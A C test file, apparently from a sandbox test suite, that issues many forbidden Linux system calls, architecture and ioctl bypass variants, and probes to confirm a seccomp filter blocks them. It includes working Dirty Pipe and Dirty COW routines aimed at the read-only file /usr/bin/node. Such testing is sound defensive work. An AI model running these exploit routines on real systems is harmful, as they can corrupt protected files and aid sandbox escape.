// C: system calls.
#include "attack.h"

#include <fcntl.h>
#include <linux/futex.h>
#include <linux/sched.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static char buffer[4096];
#define BUFFER ((long)buffer)

struct call {
  const char *name;
  long number;
  long arguments[6];
};

// The arguments would make the call succeed or reach a check of the kernel. So only the filter gives the
// errno that the test expects. Numbers are written out where older headers lack the name.
static const struct call forbidden[] = {
    {"mount", SYS_mount, {BUFFER, BUFFER, BUFFER}},
    {"umount2", SYS_umount2, {BUFFER}},
    {"pivot_root", SYS_pivot_root, {BUFFER, BUFFER}},
    {"chroot", SYS_chroot, {(long)"/tmp"}},
    {"fsopen", SYS_fsopen, {(long)"tmpfs"}},
    {"fsmount", SYS_fsmount, {-1}},
    {"fsconfig", SYS_fsconfig, {-1}},
    {"fspick", SYS_fspick, {AT_FDCWD, (long)"/"}},
    {"move_mount", SYS_move_mount, {-1}},
    {"open_tree", SYS_open_tree, {AT_FDCWD, (long)"/"}},
    {"mount_setattr", SYS_mount_setattr, {-1}},
    {"unshare", SYS_unshare, {CLONE_NEWUSER}},
    {"setns", SYS_setns, {-1}},
    {"ptrace", SYS_ptrace, {16, 1}},
    {"process_vm_readv", SYS_process_vm_readv, {1}},
    {"process_vm_writev", SYS_process_vm_writev, {1}},
    {"pidfd_getfd", SYS_pidfd_getfd, {-1}},
    {"kcmp", SYS_kcmp, {1, 1}},
    {"open_by_handle_at", SYS_open_by_handle_at, {AT_FDCWD, BUFFER}},
    {"name_to_handle_at", SYS_name_to_handle_at, {AT_FDCWD, (long)"/", BUFFER, BUFFER}},
    {"mknod", SYS_mknod, {(long)"/tmp/mem", 020600, 0x101}},
    {"mknodat", SYS_mknodat, {AT_FDCWD, (long)"/tmp/mem2", 020600, 0x101}},
    {"inotify_add_watch", SYS_inotify_add_watch, {-1, (long)"/dev/null", 1}},
    {"bpf", SYS_bpf, {0, BUFFER, 64}},
    {"perf_event_open", SYS_perf_event_open, {BUFFER, 0, -1, -1}},
    {"userfaultfd", SYS_userfaultfd, {1}},
    {"vmsplice", SYS_vmsplice, {1, BUFFER, 0}},
    {"keyctl", SYS_keyctl, {1}},
    {"add_key", SYS_add_key, {(long)"user", (long)"k", (long)"v", 1, -2}},
    {"request_key", SYS_request_key, {(long)"user", (long)"k", 0, -2}},
    {"setuid", SYS_setuid, {1000}},
    {"setgid", SYS_setgid, {1000}},
    {"setreuid", SYS_setreuid, {1000, 1000}},
    {"setregid", SYS_setregid, {1000, 1000}},
    {"setresuid", SYS_setresuid, {1000, 1000, 1000}},
    {"setresgid", SYS_setresgid, {1000, 1000, 1000}},
    {"setgroups", SYS_setgroups, {0}},
    {"setfsuid", SYS_setfsuid, {1000}},
    {"setfsgid", SYS_setfsgid, {1000}},
    {"capset", SYS_capset, {BUFFER, BUFFER}},
    {"setxattr", SYS_setxattr, {(long)"/tmp", (long)"user.overlay.opaque", (long)"y", 1}},
    {"lsetxattr", SYS_lsetxattr, {(long)"/tmp", (long)"user.overlay.redirect", (long)"/", 1}},
    {"fsetxattr", SYS_fsetxattr, {1, (long)"user.x", (long)"y", 1}},
    {"removexattr", SYS_removexattr, {(long)"/tmp", (long)"user.x"}},
    {"lremovexattr", SYS_lremovexattr, {(long)"/tmp", (long)"user.x"}},
    {"fremovexattr", SYS_fremovexattr, {1, (long)"user.x"}},
    {"sethostname", SYS_sethostname, {(long)"x", 1}},
    {"setdomainname", SYS_setdomainname, {(long)"x", 1}},
    {"reboot", SYS_reboot, {0}},
    {"syslog", SYS_syslog, {10}},
    {"acct", SYS_acct, {0}},
    {"swapon", SYS_swapon, {BUFFER}},
    {"swapoff", SYS_swapoff, {BUFFER}},
    {"settimeofday", SYS_settimeofday, {0}},
    {"clock_settime", SYS_clock_settime, {0, BUFFER}},
    {"clock_adjtime", SYS_clock_adjtime, {0, BUFFER}},
    {"adjtimex", SYS_adjtimex, {BUFFER}},
    {"init_module", SYS_init_module, {BUFFER, 1, BUFFER}},
    {"finit_module", SYS_finit_module, {-1, BUFFER}},
    {"delete_module", SYS_delete_module, {BUFFER}},
    {"kexec_load", SYS_kexec_load, {0}},
    {"kexec_file_load", SYS_kexec_file_load, {-1}},
    {"quotactl", SYS_quotactl, {0}},
    {"iopl", SYS_iopl, {3}},
    {"ioperm", SYS_ioperm, {0, 1, 1}},
    {"io_uring_setup", 425, {1, BUFFER}},
    {"io_uring_enter", 426, {-1}},
    {"io_uring_register", 427, {-1}},
    {"clone3", 435, {BUFFER, 64}},
    {"memfd_secret", 447, {0}},
    {"quotactl_fd", 443, {-1}},
    {"fanotify_init", SYS_fanotify_init, {0x200}},
    {"fanotify_mark", SYS_fanotify_mark, {-1}},
    {"lookup_dcookie", SYS_lookup_dcookie, {0}},
    {"vhangup", SYS_vhangup, {0}},
    {"mbind", SYS_mbind, {0}},
    {"set_mempolicy", SYS_set_mempolicy, {0}},
    {"get_mempolicy", SYS_get_mempolicy, {0}},
    {"migrate_pages", SYS_migrate_pages, {0, 0, BUFFER, BUFFER}},
    {"move_pages", SYS_move_pages, {0}},
    {"process_madvise", 440, {-1}},
    {"process_mrelease", 448, {-1}},
    {"lsm_get_self_attr", 459, {100, 0, BUFFER, 0}},
    {"lsm_set_self_attr", 460, {100}},
    {"lsm_list_modules", 461, {0}},
    {"statmount", 457, {0}},
    {"listmount", 458, {0}},
    {"map_shadow_stack", 453, {0}},
    {"open_tree_attr", 467, {-1}},
    {"shmget", SYS_shmget, {0x4f46, 4096, 01600}},
    {"semget", SYS_semget, {0x4f46, 1, 01600}},
    {"msgget", SYS_msgget, {0x4f46, 01600}},
    {"mq_open", SYS_mq_open, {(long)"q", O_CREAT | O_RDWR, 0600}},
    {"io_setup", SYS_io_setup, {1, BUFFER}},
    {"modify_ldt", SYS_modify_ldt, {0, BUFFER, 16}},
    {"sched_setscheduler", SYS_sched_setscheduler, {0, 0, BUFFER}},
    {"sched_setattr", SYS_sched_setattr, {0, BUFFER}},
    {"seccomp", SYS_seccomp, {2, 0, BUFFER}},
    {"remap_file_pages", SYS_remap_file_pages, {0}},
    {"ioprio_set", SYS_ioprio_set, {1, 0, 0x6000}},
    {"uselib", SYS_uselib, {BUFFER}},
    {"ustat", SYS_ustat, {0, BUFFER}},
    {"sysfs", SYS_sysfs, {3}},
    {"futex FUTEX_LOCK_PI", SYS_futex, {BUFFER + 64, FUTEX_LOCK_PI}},
    {"futex FUTEX_CMP_REQUEUE_PI", SYS_futex, {BUFFER + 64, FUTEX_CMP_REQUEUE_PI, 1, 0, BUFFER + 128, 0}},
    {"prctl PR_SET_MM", SYS_prctl, {PR_SET_MM, PR_SET_MM_BRK, 0}},
    {"prctl PR_SET_DUMPABLE", SYS_prctl, {PR_SET_DUMPABLE, 1}},
    {"prctl PR_SET_KEEPCAPS", SYS_prctl, {PR_SET_KEEPCAPS, 0}},
    {"prctl PR_SET_SECCOMP", SYS_prctl, {PR_SET_SECCOMP, 2, BUFFER}},
    {"prctl PR_SET_TIMING", SYS_prctl, {PR_SET_TIMING, 0}},
    {"fcntl F_SETLEASE", SYS_fcntl, {1, F_SETLEASE, 2}},
    {"fcntl F_NOTIFY", SYS_fcntl, {1, F_NOTIFY, 0}},
    {"fcntl F_SETOWN", SYS_fcntl, {1, F_SETOWN, 1}},
};

static long make(const void *argument) {
  const struct call *call = argument;
  const long *given = call->arguments;
  return syscall(call->number, given[0], given[1], given[2], given[3], given[4], given[5]);
}

static void deny_table(const struct attack *attack) {
  // Each in a child: a call that succeeds must not affect the next.
  for (size_t i = 0; i < sizeof forbidden / sizeof *forbidden; i++)
    in_child(attack, forbidden[i].name, make, &forbidden[i]);
}

static long by_int80(const void *argument) {
  long result;
  int32_t number = *(const int32_t *)argument;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"((long)number), "b"(0L), "c"(0L), "d"(0L)
                   : "memory", "r8", "r9", "r10", "r11");
  if (result < 0) errno = (int)-result;
  return result < 0 ? -1 : result;
}

static long by_x32(const void *argument) {
  return syscall(*(const int32_t *)argument | 0x40000000, 0, 0, 0, 0, 0, 0);
}

static void other_architectures(const struct attack *attack) {
  // Numbers of i386: getpid, mount, ptrace, socketcall, clone, unshare, keyctl, bpf, io_uring_setup.
  static const int32_t i386[] = {20, 21, 26, 102, 120, 310, 288, 357, 425};
  static const int32_t x32[] = {39, 165, 521, 41, 56, 272, 250, 321, 425, 512};
  char call[48];
  for (size_t i = 0; i < sizeof i386 / sizeof *i386; i++) {
    snprintf(call, sizeof call, "int 0x80, call %d", i386[i]);
    in_child(attack, call, by_int80, &i386[i]);
  }
  for (size_t i = 0; i < sizeof x32 / sizeof *x32; i++) {
    snprintf(call, sizeof call, "x32, call %d", x32[i]);
    in_child(attack, call, by_x32, &x32[i]);
  }
}

static void socket_families(const struct attack *attack) {
  const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET};
  for (long family = 0; family <= 45; family++) {
    for (size_t type = 0; type < sizeof types / sizeof *types; type++) {
      char call[48];
      snprintf(call, sizeof call, "socket(%ld, %d)", family, types[type]);
      TRY(attack, call, syscall(SYS_socket, family, types[type] | SOCK_CLOEXEC, 0));
      snprintf(call, sizeof call, "socket(%ld, %d) with the upper half set", family, types[type]);
      TRY(attack, call, syscall(SYS_socket, family | (1L << 32), types[type] | SOCK_CLOEXEC, 0));
      int pair[2];
      snprintf(call, sizeof call, "socketpair(%ld, %d)", family, types[type]);
      TRY(attack, call, syscall(SYS_socketpair, family, types[type] | SOCK_CLOEXEC, 0, pair));
    }
  }
}

static void io_uring(const struct attack *attack) {
  memset(buffer, 0, sizeof buffer);
  TRY(attack, "io_uring_setup", syscall(425, 4, buffer));
  TRY(attack, "io_uring_enter", syscall(426, -1, 0, 0, 0, NULL, 0));
  TRY(attack, "io_uring_register", syscall(427, -1, 0, NULL, 0));
}

static void keyring(const struct attack *attack) {
  TRY(attack, "add_key", syscall(SYS_add_key, "user", "offshoot", "v", 1, -3));
  TRY(attack, "request_key", syscall(SYS_request_key, "user", "offshoot", NULL, -3));
  for (long operation = 0; operation <= 32; operation++) {
    char call[32];
    snprintf(call, sizeof call, "keyctl(%ld)", operation);
    TRY(attack, call, syscall(SYS_keyctl, operation, -3, 0, 0, 0));
  }
}

static void terminal(const struct attack *attack) {
  const struct {
    const char *name;
    unsigned long request;
  } requests[] = {{"TIOCSTI", TIOCSTI},
                  {"TIOCLINUX", 0x541c},
                  {"TIOCSETD", TIOCSETD},
                  {"TIOCSCTTY", TIOCSCTTY},
                  {"FS_IOC_SETFLAGS", 0x40086602},
                  {"FICLONE", 0x40049409},
                  {"FS_IOC_FSSETXATTR", 0x401c5820},
                  {"SIOCGIFCONF", 0x8912},
                  {"SIOCSIFFLAGS", 0x8914},
                  {"PERF_EVENT_IOC_ENABLE", 0x2400},
                  {"NS_GET_PARENT", 0xb702},
                  {"NS_GET_USERNS", 0xb701}};
  char character = 'x', call[64];
  for (size_t i = 0; i < sizeof requests / sizeof *requests; i++) {
    snprintf(call, sizeof call, "ioctl(%s)", requests[i].name);
    TRY(attack, call, syscall(SYS_ioctl, 0, requests[i].request, &character));
    // CVE-2019-10063: the kernel looks at 32 bits.
    snprintf(call, sizeof call, "ioctl(%s) with the upper half set", requests[i].name);
    TRY(attack, call, syscall(SYS_ioctl, 0, requests[i].request | (1UL << 32), &character));
  }
}

static void kernel_programs(const struct attack *attack) {
  memset(buffer, 0, sizeof buffer);
  TRY(attack, "userfaultfd(0)", syscall(SYS_userfaultfd, 0));
  TRY(attack, "userfaultfd(UFFD_USER_MODE_ONLY)", syscall(SYS_userfaultfd, 1));
  for (long command = 0; command <= 36; command++) {
    char call[32];
    snprintf(call, sizeof call, "bpf(%ld)", command);
    TRY(attack, call, syscall(SYS_bpf, command, buffer, 128));
  }
  uint32_t *attributes = (uint32_t *)(void *)buffer;
  attributes[0] = 1, attributes[1] = 112;
  TRY(attack, "perf_event_open(software)", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
}

static void personalities(const struct attack *attack) {
  const unsigned long wanted[] = {ADDR_NO_RANDOMIZE,
                                  READ_IMPLIES_EXEC,
                                  MMAP_PAGE_ZERO,
                                  0x8,
                                  0x20000,
                                  0x20008,
                                  ADDR_NO_RANDOMIZE | (1UL << 32)};
  for (size_t i = 0; i < sizeof wanted / sizeof *wanted; i++) {
    char call[48];
    snprintf(call, sizeof call, "personality(0x%lx)", wanted[i]);
    TRY(attack, call, syscall(SYS_personality, wanted[i]));
  }
  fact_number(attack, "personality", syscall(SYS_personality, 0xffffffff));
}

// CVE-2022-0847: a page of a file that is only readable, spliced into a pipe whose buffers still say "can
// merge".
static void dirty_pipe(const struct attack *attack, const char *path) {
  int ends[2], fd = open(path, O_RDONLY | O_CLOEXEC);
  char before = 0, after = 0;
  if (fd < 0 || pipe(ends) < 0) return told(attack, "dirty pipe: open", -1, errno);
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= (int)sizeof buffer)
    (void)!write(ends[1], buffer, sizeof buffer);
  for (int left = size; left > 0; left -= (int)sizeof buffer)
    (void)!read(ends[0], buffer, sizeof buffer);
  (void)!pread(fd, &before, 1, 1);
  loff_t offset = 0;
  (void)!splice(fd, &offset, ends[1], NULL, 1, 0);
  (void)!write(ends[1], "#", 1);
  (void)!pread(fd, &after, 1, 1);
  fact(attack, "dirty pipe", before == after ? "unchanged" : "changed");
  close(fd), close(ends[0]), close(ends[1]);
}

static char *shared_page;
static volatile int racing;

static void *give_back(void *unused) {
  while (racing)
    madvise(shared_page, 4096, MADV_DONTNEED);
  return unused;
}

// CVE-2016-5195: a private mapping, written through /proc/self/mem while its copy is being discarded.
static void dirty_cow(const struct attack *attack, const char *path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  char before = 0, after = 0;
  if (fd < 0) return told(attack, "dirty cow: open", -1, errno);
  (void)!pread(fd, &before, 1, 0);
  shared_page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  racing = 1;
  pthread_t thread;
  if (pthread_create(&thread, NULL, give_back, NULL) != 0)
    return told(attack, "dirty cow: thread", -1, EAGAIN);
  char other = (char)(before + 1);
  for (int i = 0; i < 20000 && memory >= 0; i++)
    (void)!pwrite(memory, &other, 1, (off_t)(uintptr_t)shared_page);
  racing = 0;
  pthread_join(thread, NULL);
  (void)!pread(fd, &after, 1, 0);
  fact(attack, "dirty cow", before == after ? "unchanged" : "changed");
}

static void page_cache(const struct attack *attack) {
  // CVE-2026-31431 begins with this socket.
  TRY(attack, "socket(AF_ALG)", syscall(SYS_socket, 38, SOCK_SEQPACKET, 0));
  int ends[2];
  if (pipe(ends) == 0) {
    const struct iovec part = {buffer, sizeof buffer};
    TRY(attack, "vmsplice", syscall(SYS_vmsplice, ends[1], &part, 1, 0));
  }
  dirty_pipe(attack, "/usr/bin/node");
  dirty_cow(attack, "/usr/bin/node");
}

const struct scenario call_scenarios[] = {
    {"C1", deny_table},      {"C2", other_architectures},
    {"C3", socket_families}, {"C4", io_uring},
    {"C5", keyring},         {"C6", terminal},
    {"C7", kernel_programs}, {"C8", personalities},
    {"C10", page_cache},     {NULL, NULL},
};
